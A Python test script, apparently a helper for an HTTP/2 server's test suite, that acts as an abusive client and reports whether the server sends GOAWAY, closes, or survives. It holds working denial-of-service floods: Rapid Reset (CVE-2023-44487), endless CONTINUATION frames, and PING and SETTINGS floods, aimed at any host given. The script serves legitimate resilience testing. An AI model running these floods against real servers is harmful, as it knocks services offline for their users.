#!/usr/bin/env python3
"""Abusive HTTP/2 clients for tests/h2.rs (and by hand).

usage: h2_flood.py MODE HOST PORT [--tls]
MODE: rapid-reset   open streams and reset each at once (CVE-2023-44487)
      continuation  one HEADERS without END_HEADERS, then endless CONTINUATION
      ping          a flood of PINGs without reading the answers
      settings      a flood of (empty) SETTINGS frames
      idle          nothing after the preface (the keep-alive timeout applies)
Prints `GOAWAY <code>` when the server sent GOAWAY, `CLOSED` when it closed
without one, `SURVIVED` when it neither did; exit status 0 only for GOAWAY.
"""
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame


def main():
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    tls = "--tls" in sys.argv
    sock = socket.create_connection((host, port), timeout=10)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname="flood.test")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/hello"), (":scheme", "https" if tls else "http"),
               (":authority", host)]
    deadline = time.time() + 10
    try:
        if mode == "rapid-reset":
            sid = 1
            for _ in range(2000):
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid)
                sid += 2
                sock.sendall(conn.data_to_send())
        elif mode == "continuation":
            block = conn.encoder.encode(headers)
            f = HeadersFrame(1)
            f.data = block
            sock.sendall(f.serialize())
            junk = conn.encoder.encode([("x-junk", "a" * 1000)])
            for _ in range(20000):
                c = ContinuationFrame(1)
                c.data = junk
                sock.sendall(c.serialize())
        elif mode == "ping":
            for i in range(200000):
                p = PingFrame(0)
                p.opaque_data = i.to_bytes(8, "big")
                sock.sendall(p.serialize())
        elif mode == "idle":
            pass
        elif mode == "settings":
            for i in range(200000):
                sock.sendall(SettingsFrame(0).serialize())
        else:
            sys.exit("unknown mode " + mode)
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
        pass
    # Read what the server says until it closes; frames are parsed raw (the
    # client library's own state may refuse frames after the abuse).
    sock.settimeout(2)
    raw = b""
    at = 0
    while time.time() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            print("SURVIVED")
            sys.exit(2)
        except (ConnectionResetError, ssl.SSLError, OSError):
            print("CLOSED")
            sys.exit(1)
        if not data:
            print("CLOSED")
            sys.exit(1)
        raw += data
        while len(raw) - at >= 9:
            length = int.from_bytes(raw[at:at + 3], "big")
            kind = raw[at + 3]
            if len(raw) - at < 9 + length:
                break
            payload = raw[at + 9:at + 9 + length]
            at += 9 + length
            if kind == 0x7:  # GOAWAY: last stream id, error code
                print("GOAWAY", int.from_bytes(payload[4:8], "big"))
                sys.exit(0)
    print("SURVIVED")
    sys.exit(2)


if __name__ == "__main__":
    main()
